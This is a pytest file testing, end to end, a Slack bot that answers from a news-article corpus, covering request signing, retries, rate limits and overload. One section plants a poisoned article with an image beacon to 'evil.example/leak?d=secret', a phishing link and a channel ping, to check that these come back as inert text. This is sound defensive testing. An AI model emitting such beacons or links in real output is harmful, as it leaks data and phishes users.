"""The bot end to end: signed Events API requests to a live server, answers to a fake Slack."""

from __future__ import annotations

import dataclasses
import json
import logging
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.slack import (
    ANSWER_BLOCK_ID,
    BACKEND_DOWN_TEXT,
    BUSY_TEXT,
    EMPTY_CORPUS_TEXT,
    EMPTY_QUESTION_TEXT,
    FAILED_TEXT,
    SLACK_DOWN_TEXT,
    THINKING_TEXT,
    slack_router,
)
from rag.answer.compose.verified import REFUSAL_TEXT
from rag.documents.loader import parse_document
from rag.errors import BackendUnavailable, RagError
from rag.llm.fake import FakeChatModel
from rag.service import RagService
from rag.settings import Settings
from rag.types import Message
from tests.slack.conftest import (
    BANKS_ANSWER,
    FOLLOW_UP,
    LENDING_ANSWER,
    LENDING_QUESTION,
    LENDING_SOURCE,
    STANDALONE_FOLLOW_UP,
    SlackSender,
    sign,
)
from tests.slack.fake_slack import BOT_ID, BOT_USER_ID, FakeSlack

MENTION = f"<@{BOT_USER_ID}>"


def wait_for_answer(fake: FakeSlack, channel: str, count: int = 1) -> dict:
    fake.wait_for(lambda: len(fake.updates(channel)) >= count)
    return fake.updates(channel)[count - 1]


def block_texts(blocks: Sequence[dict]) -> str:
    texts = [b["text"]["text"] for b in blocks if b["type"] == "section"]
    texts += [e["text"] for b in blocks if b["type"] == "context" for e in b["elements"]]
    return "\n".join(texts)


def prompts(llm: FakeChatModel) -> list[str]:
    return [call[-1].content for call in llm.calls]


# --- answering ------------------------------------------------------------------------------


def test_mention_gets_a_placeholder_then_the_answer_with_sources_in_its_thread(
    slack: SlackSender, fake_slack: FakeSlack, llm: FakeChatModel
) -> None:
    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}", channel="C1")

    started = time.monotonic()
    response = slack.post(payload)
    assert response.status_code == 200
    assert time.monotonic() - started < 3, "Slack needs the ack within 3 seconds"

    update = wait_for_answer(fake_slack, "C1")
    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
    placeholder_ts = fake_slack.of("chat.update")[0]["ts"]
    assert placeholder_ts != ts
    assert update["text"] == LENDING_ANSWER
    blocks = update["blocks"]
    assert blocks[0] == {
        "type": "section",
        "block_id": ANSWER_BLOCK_ID,
        "text": {"type": "mrkdwn", "text": LENDING_ANSWER, "verbatim": True},
    }
    sources = block_texts(blocks[1:])
    # No outlet for a plain file: its name, the date, then its headline (cut to 150).
    assert f"*[1]* `{LENDING_SOURCE}` · 2023-10-18 · Chinese leader Xi Jinping praised" in sources
    assert "additional $100 billion in loans" in sources
    # The model saw the question without the mention.
    assert LENDING_QUESTION in prompts(llm)[-1]
    assert "<@" not in prompts(llm)[-1]


def test_the_ack_does_not_wait_for_the_model(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
) -> None:
    release = threading.Event()

    def slow_model(messages: Sequence[Message]) -> str:
        release.wait(timeout=10)
        return LENDING_ANSWER

    slack = serve(service_for(FakeChatModel(slow_model)))
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    try:
        assert slack.post(payload).status_code == 200
        fake_slack.wait_for(lambda: len(fake_slack.posts()) == 1)
        assert fake_slack.updates() == [], "answered before the model was done"
    finally:
        release.set()

    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER


def test_direct_message_is_answered_in_its_thread(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    ts, payload = slack.dm(LENDING_QUESTION, channel="D7")

    assert slack.post(payload).status_code == 200

    update = wait_for_answer(fake_slack, "D7")
    assert fake_slack.posts() == [{"channel": "D7", "thread_ts": ts, "text": THINKING_TEXT}]
    assert update["text"] == LENDING_ANSWER
    assert LENDING_SOURCE in block_texts(update["blocks"])


def test_follow_up_in_the_thread_uses_the_earlier_turn(
    slack: SlackSender, fake_slack: FakeSlack, llm: FakeChatModel
) -> None:
    root_ts, first = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(first)
    wait_for_answer(fake_slack, "C1")
    fake_slack.add_user_message("C1", "nice, thanks", user="U2", thread_ts=root_ts)

    _, follow_up = slack.mention(f"{MENTION} {FOLLOW_UP}", thread_ts=root_ts)
    slack.post(follow_up)

    update = wait_for_answer(fake_slack, "C1", count=2)
    assert fake_slack.posts()[1] == {"channel": "C1", "thread_ts": root_ts, "text": THINKING_TEXT}
    assert fake_slack.of("conversations.replies") == [{"channel": "C1", "ts": root_ts}]
    # The condense step is the one prompt with the follow-up as the user wrote it.
    condense = next(p for p in prompts(llm) if FOLLOW_UP in p)
    # The thread's earlier question, never the bot's answer: a wrong answer must not steer it.
    assert condense.index(LENDING_QUESTION) < condense.index(FOLLOW_UP)
    assert LENDING_ANSWER not in condense
    assert "nice, thanks" not in condense
    assert STANDALONE_FOLLOW_UP in prompts(llm)[-1]
    assert update["text"] == BANKS_ANSWER


def test_unanswerable_question_says_the_articles_do_not_contain_it(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    _, payload = slack.mention(f"{MENTION} Who won the 2018 World Cup?")
    slack.post(payload)

    update = wait_for_answer(fake_slack, "C1")
    assert update["text"].startswith(REFUSAL_TEXT.rstrip("."))
    assert "World Cup" in update["text"]  # no article names it: said plainly, no sources
    assert [b["type"] for b in update["blocks"]] == ["section"]


# --- retries, duplicates and forgery --------------------------------------------------------


RETRY = {"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}


def test_slack_retry_is_acknowledged_without_a_second_answer(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    wait_for_answer(fake_slack, "C1")
    slack.settle(payload)

    assert slack.post(payload, headers=RETRY).status_code == 200
    slack.settle(payload)

    assert len(fake_slack.posts()) == 1
    assert len(fake_slack.updates()) == 1


def test_a_retry_whose_first_delivery_was_lost_is_answered(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    # The first delivery died at a proxy or with a restarting worker: only the retry arrives.
    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")

    response = slack.post(payload, headers={"X-Slack-Retry-Num": "2"})

    assert response.status_code == 200
    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]


def test_a_retry_while_the_first_delivery_is_being_answered_is_dropped(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
) -> None:
    release = threading.Event()

    def slow_model(messages: Sequence[Message]) -> str:
        release.wait(timeout=30)
        return LENDING_ANSWER

    slack = serve(service_for(FakeChatModel(slow_model)))
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    try:
        assert slack.post(payload).status_code == 200
        fake_slack.wait_for(lambda: len(fake_slack.posts()) == 1)  # it is answering now
        assert slack.post(payload, headers=RETRY).status_code == 200
    finally:
        release.set()
    slack.settle(payload)

    assert len(fake_slack.posts()) == 1
    assert [u["text"] for u in fake_slack.updates()] == [LENDING_ANSWER]


def test_duplicate_event_id_is_answered_once(slack: SlackSender, fake_slack: FakeSlack) -> None:
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")

    assert slack.post(payload).status_code == 200
    assert slack.post(payload).status_code == 200
    slack.settle(payload)

    assert len(fake_slack.posts()) == 1
    assert len(fake_slack.updates()) == 1


def test_an_event_slack_took_no_reply_for_is_answered_by_its_redelivery(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    fake_slack.errors["chat.postMessage"] = "fatal_error"
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    slack.settle(payload)
    assert slack.ledger is not None and slack.ledger.state(payload["event_id"]) is None

    del fake_slack.errors["chat.postMessage"]
    slack.post(payload, headers=RETRY)

    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
    slack.settle(payload)
    assert slack.ledger.state(payload["event_id"]) == "finished"


def test_forged_signature_is_rejected_with_401_and_nothing_posted(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")

    response = slack.post(payload, secret="not-the-signing-secret")
    slack.settle(payload)

    assert response.status_code == 401
    assert fake_slack.calls == []


def test_unsigned_request_is_rejected_with_401(slack: SlackSender, fake_slack: FakeSlack) -> None:
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")

    response = slack.post_raw(slack.url, json=payload)

    assert response.status_code == 401
    assert fake_slack.calls == []


def test_stale_timestamp_is_rejected_with_401_and_nothing_posted(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")

    response = slack.post(payload, timestamp=int(time.time()) - 6 * 60)
    slack.settle(payload)

    assert response.status_code == 401
    assert fake_slack.calls == []


# --- what is not a question -----------------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        pytest.param({"user": BOT_USER_ID, "bot_id": BOT_ID}, id="own-message"),
        pytest.param({"bot_id": "BOTHER", "subtype": "bot_message"}, id="other-bot"),
        pytest.param({"subtype": "message_changed"}, id="edit"),
        pytest.param({"channel_type": "channel"}, id="channel-message-without-mention"),
    ],
)
def test_messages_that_are_not_questions_are_ignored(
    slack: SlackSender, fake_slack: FakeSlack, fields: dict[str, str]
) -> None:
    _, payload = slack.dm(LENDING_QUESTION, **fields)

    assert slack.post(payload).status_code == 200
    slack.settle(payload)

    assert fake_slack.posts() == []


def test_bare_mention_gets_a_hint_instead_of_an_answer(
    slack: SlackSender, fake_slack: FakeSlack, llm: FakeChatModel
) -> None:
    ts, payload = slack.mention(f"  {MENTION}  ")
    slack.post(payload)

    slack.settle(payload)

    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": EMPTY_QUESTION_TEXT}]
    assert fake_slack.updates() == []


# --- errors become replies ------------------------------------------------------------------


def _raise(exc: Exception) -> Callable[[Sequence[Message]], str]:
    def script(messages: Sequence[Message]) -> str:
        raise exc

    return script


def test_model_down_gets_a_try_again_reply(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
) -> None:
    down = FakeChatModel(_raise(BackendUnavailable("http://127.0.0.1:9/v1 refused the connection")))
    slack = serve(service_for(down))
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)

    update = wait_for_answer(fake_slack, "C1")
    assert fake_slack.posts("C1")[0]["text"] == THINKING_TEXT
    assert update["text"] == BACKEND_DOWN_TEXT
    assert "blocks" not in update


def test_empty_corpus_says_no_articles_are_ingested(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
    tmp_path: Path,
) -> None:
    slack = serve(service_for(FakeChatModel(LENDING_ANSWER), data_dir=tmp_path / "empty"))
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)

    assert wait_for_answer(fake_slack, "C1")["text"] == EMPTY_CORPUS_TEXT


def test_unexpected_error_gets_an_apology_and_is_logged(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
    caplog: pytest.LogCaptureFixture,
) -> None:
    slack = serve(service_for(FakeChatModel(_raise(RuntimeError("kaboom")))))
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    with caplog.at_level(logging.ERROR, logger="api.slack"):
        slack.post(payload)
        update = wait_for_answer(fake_slack, "C1")

    assert update["text"] == FAILED_TEXT
    logged = [r for r in caplog.records if r.name == "api.slack" and r.exc_info]
    assert logged and "kaboom" in str(logged[0].exc_info[1])


def test_too_long_question_is_explained(slack: SlackSender, fake_slack: FakeSlack) -> None:
    _, payload = slack.mention(f"{MENTION} {'why ' * 600}?")
    slack.post(payload)

    update = wait_for_answer(fake_slack, "C1")
    assert update["text"].startswith(":warning: I can't use that question:")
    assert "the limit is 2000" in update["text"]


def test_unreadable_thread_still_gets_an_answer_without_history(
    slack: SlackSender, fake_slack: FakeSlack, llm: FakeChatModel
) -> None:
    fake_slack.errors["conversations.replies"] = "missing_scope"
    root_ts, first = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(first)
    wait_for_answer(fake_slack, "C1")

    _, follow_up = slack.mention(f"{MENTION} {LENDING_QUESTION} Again?", thread_ts=root_ts)
    slack.post(follow_up)

    assert wait_for_answer(fake_slack, "C1", count=2)["text"] == LENDING_ANSWER
    assert len(llm.calls) == 2, "no condense step without history"


def test_answer_falls_back_to_text_when_slack_rejects_the_blocks(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    fake_slack.reject_blocks = True
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)

    fallback = wait_for_answer(fake_slack, "C1", count=2)
    assert "blocks" in fake_slack.updates("C1")[0]
    assert fallback == {"channel": "C1", "ts": fallback["ts"], "text": LENDING_ANSWER}


# --- article text is untrusted -------------------------------------------------------------

INJECTED_ARTICLE = """ date 2024-07-05 Bergen harbour authority publishes its annual report

Cargo volumes at the Bergen harbour rose *4 percent* to 61 million tonnes, said the report \
![x](http://evil.example/leak?d=secret) <http://evil.example/phish|click here> _now_ ~or~ `never` \
at www.evil.example <!channel>.

The authority expects volumes to keep growing next year as the new container quay opens.
"""
HARBOUR_QUESTION = "By how much did cargo volumes at the Bergen harbour rise?"
HARBOUR_ANSWER = "Cargo volumes at the Bergen harbour rose 4 percent to 61 million tonnes [1]."


def test_links_and_markup_in_an_article_reach_slack_as_inert_text(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
    tmp_path: Path,
) -> None:
    service = service_for(FakeChatModel(HARBOUR_ANSWER), data_dir=tmp_path / "poisoned")
    service.add_document(INJECTED_ARTICLE.encode(), "harbour_report.txt")
    slack = serve(service)
    _, payload = slack.mention(f"{MENTION} {HARBOUR_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    [update] = fake_slack.updates("C1")
    assert update["text"] == HARBOUR_ANSWER
    sources = [e for b in update["blocks"] if b["type"] == "context" for e in b["elements"]]
    quote = sources[-1]["text"].split("\n", 1)[1]
    assert "evil.example" in quote, "the quote is from the injected sentence"
    for marker in ("*", "_", "~", "`", "<", ">", "://", "www."):
        assert marker not in quote, f"{marker!r} came back from the article in {quote!r}"
    assert all(e["verbatim"] is True for e in sources), "Slack must not link-ify quotes"


FLOOD_ARTICLE = """ date 2017-03-01 Velmora floods

Floodwaters swept through the river town of Velmora on Tuesday, forcing more than 4,000 \
residents from their homes, the regional governor said.
"""
FLOOD_QUESTION = "How many residents did the Velmora floods force from their homes?"
FLOOD_ANSWER = "The floods forced more than 4,000 residents from their homes [1]."


def test_sources_name_the_outlet_date_and_title_of_each_article(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    fake_slack: FakeSlack,
    tmp_path: Path,
) -> None:
    service = service_for(FakeChatModel(FLOOD_ANSWER), data_dir=tmp_path / "archive")
    article = dataclasses.replace(
        parse_document(FLOOD_ARTICLE.encode(), "newsarticles-9.txt"),
        title="Velmora *floods* <http://evil.example|force> 4,000 from homes",
        outlet="DW",
        url="https://www.dw.com/en/velmora/a-9",
    )
    assert service.ingest_documents([article]).ok
    slack = serve(service)
    _, payload = slack.mention(f"{MENTION} {FLOOD_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    [update] = fake_slack.updates("C1")
    assert update["text"] == FLOOD_ANSWER
    lines = [e["text"] for b in update["blocks"] if b["type"] == "context" for e in b["elements"]]
    assert lines[0] == "*Sources*"
    header, quote = lines[1].split("\n", 1)
    # The outlet, not the file; the headline as inert text: no link, no bold.
    assert header == (
        "*[1]* DW · 2017-03-01 · Velmora ∗floods∗ &lt;http[:]//evil.example|force&gt; 4,000 "
        "from homes"
    )
    assert "more than 4,000 residents" in quote


# --- Slack rate limits (HTTP 429 with Retry-After) -----------------------------------------


def test_a_429_on_chat_update_is_waited_out_and_the_sources_are_kept(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    fake_slack.rate_limit("chat.update", times=2, retry_after=0)
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    [update] = fake_slack.updates("C1")
    assert update["text"] == LENDING_ANSWER
    assert LENDING_SOURCE in block_texts(update["blocks"]), "a 429 is not a refusal of blocks"
    assert [c.method for c in fake_slack.throttled] == ["chat.update", "chat.update"]


def test_a_429_on_chat_post_message_is_retried_after_its_retry_after(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    fake_slack.rate_limit("chat.postMessage", times=1, retry_after=1)
    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
    assert fake_slack.updates("C1")[0]["text"] == LENDING_ANSWER
    [limited] = fake_slack.throttled
    posted = next(c for c in fake_slack.calls if c.method == "chat.postMessage")
    assert posted.at - limited.at >= 1.0, "the retry came before Retry-After"


def test_a_429_on_conversations_replies_still_answers_with_the_history(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    root_ts, first = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(first)
    slack.settle(first)
    fake_slack.rate_limit("conversations.replies", times=1, retry_after=0)

    _, follow_up = slack.mention(f"{MENTION} {FOLLOW_UP}", thread_ts=root_ts)
    slack.post(follow_up)
    slack.settle(follow_up)

    assert fake_slack.updates("C1")[1]["text"] == BANKS_ANSWER
    assert [c.method for c in fake_slack.throttled] == ["conversations.replies"]


def test_slack_staying_rate_limited_ends_with_an_error_reply_not_the_placeholder(
    serve: Callable[[RagService], SlackSender],
    service: RagService,
    settings: Settings,
    fake_slack: FakeSlack,
) -> None:
    settings.slack.rate_limit_retries = 1
    slack = serve(service)
    fake_slack.rate_limit("chat.update", times=1_000, retry_after=0)
    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    assert [p["text"] for p in fake_slack.posts("C1")] == [THINKING_TEXT, SLACK_DOWN_TEXT]
    assert fake_slack.posts("C1")[1]["thread_ts"] == ts
    assert slack.ledger is not None and slack.ledger.state(payload["event_id"]) == "finished"


def test_an_error_reply_replaces_the_placeholder_when_only_the_answer_is_refused(
    slack: SlackSender, fake_slack: FakeSlack
) -> None:
    # The answer's edit is rate limited past its retries (1 + 3 tries); the short error edit
    # after it gets through.
    fake_slack.rate_limit("chat.update", times=4, retry_after=0)
    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
    slack.post(payload)
    slack.settle(payload)

    [message] = fake_slack.bot_messages("C1")
    assert message["text"] == SLACK_DOWN_TEXT
    assert len(fake_slack.throttled) == 4


# --- in-process, through FastAPI's TestClient ----------------------------------------------


def test_url_verification_echoes_the_challenge(settings: Settings, service: RagService) -> None:
    app = FastAPI()
    app.include_router(slack_router(service, settings))
    challenge = "3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P"
    body = json.dumps({"token": "t", "challenge": challenge, "type": "url_verification"}).encode()

    with TestClient(app) as client:
        signed = client.post("/slack/events", content=body, headers=sign(body, int(time.time())))
        forged = client.post("/slack/events", content=body, headers=sign(body, 0))

    assert signed.status_code == 200
    assert signed.json() == {"challenge": challenge}
    assert forged.status_code == 401


def test_the_endpoint_is_left_out_of_the_openapi_schema(
    settings: Settings, service: RagService
) -> None:
    app = FastAPI()
    app.include_router(slack_router(service, settings))

    assert "/slack/events" not in app.openapi()["paths"]


def test_signing_secret_is_required_for_the_http_endpoint(
    settings: Settings, service: RagService
) -> None:
    settings.slack.signing_secret = None

    with pytest.raises(RagError, match="SLACK_SIGNING_SECRET"):
        slack_router(service, settings)


def test_mention_through_the_http_api_app(
    settings: Settings, service: RagService, fake_slack: FakeSlack
) -> None:
    from api.app import create_app

    with TestClient(create_app(settings, service)) as client:
        slack = SlackSender("/slack/events", client.post, fake_slack)
        ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
        assert slack.post(payload).status_code == 200
        update = wait_for_answer(fake_slack, "C1")

    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
    assert update["text"] == LENDING_ANSWER


# --- overload -------------------------------------------------------------------------------


@dataclass
class HeldModel:
    """A model that answers only once `release` is set, in a server that takes one question."""

    llm: FakeChatModel
    release: threading.Event


@pytest.fixture
def held(settings: Settings) -> Iterator[HeldModel]:
    settings.api.max_pending_questions = 1
    release = threading.Event()

    def slow_model(messages: Sequence[Message]) -> str:
        release.wait(timeout=30)
        return LENDING_ANSWER

    yield HeldModel(FakeChatModel(slow_model), release)
    release.set()


def test_a_question_beyond_the_bound_gets_a_busy_reply_at_once_not_a_place_in_a_queue(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    held: HeldModel,
    fake_slack: FakeSlack,
) -> None:
    llm, release = held.llm, held.release
    slack = serve(service_for(llm))
    _, first = slack.mention(f"{MENTION} {LENDING_QUESTION}", channel="C1")
    second_ts, second = slack.mention(f"{MENTION} {LENDING_QUESTION}", channel="C2")
    try:
        assert slack.post(first).status_code == 200
        fake_slack.wait_for(lambda: len(fake_slack.posts("C1")) == 1)  # placeholder: admitted
        assert slack.post(second).status_code == 200
        slack.settle(second)
        # Told at once, in its thread, while the first question still holds the model.
        assert fake_slack.posts("C2") == [
            {"channel": "C2", "thread_ts": second_ts, "text": BUSY_TEXT.format(limit=1)}
        ]
        assert fake_slack.updates("C2") == []
        assert fake_slack.updates("C1") == []
    finally:
        release.set()
    assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
    slack.settle(first)

    # The place is free again: the next question is answered.
    _, third = slack.mention(f"{MENTION} {LENDING_QUESTION}", channel="C3")
    assert slack.post(third).status_code == 200
    assert wait_for_answer(fake_slack, "C3")["text"] == LENDING_ANSWER
    assert len(llm.calls) == 2


def test_ignored_messages_take_no_place_in_line(
    serve: Callable[[RagService], SlackSender],
    service_for: Callable[..., RagService],
    held: HeldModel,
    fake_slack: FakeSlack,
) -> None:
    release = held.release
    slack = serve(service_for(held.llm))
    _, channel_message = slack.dm("just chatting", channel="C9", channel_type="channel")
    _, question = slack.dm(LENDING_QUESTION, channel="D3")
    try:
        assert slack.post(channel_message).status_code == 200
        assert slack.post(question).status_code == 200
        fake_slack.wait_for(lambda: len(fake_slack.posts("D3")) == 1)
        assert fake_slack.posts("D3")[0]["text"] == THINKING_TEXT
    finally:
        release.set()
    assert wait_for_answer(fake_slack, "D3")["text"] == LENDING_ANSWER
    assert fake_slack.posts("C9") == []


def test_slack_and_the_chat_api_share_one_bound(
    settings: Settings,
    service_for: Callable[..., RagService],
    held: HeldModel,
    fake_slack: FakeSlack,
) -> None:
    from api.app import create_app

    release = held.release
    with TestClient(create_app(settings, service_for(held.llm))) as client:
        slack = SlackSender("/slack/events", client.post, fake_slack)
        _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
        try:
            assert slack.post(payload).status_code == 200
            fake_slack.wait_for(lambda: len(fake_slack.posts("C1")) == 1)
            busy = client.post("/v1/chat", json={"question": LENDING_QUESTION})
            assert busy.status_code == 503, busy.text
            assert "Retry-After" in busy.headers
        finally:
            release.set()
        assert wait_for_answer(fake_slack, "C1")["text"] == LENDING_ANSWER
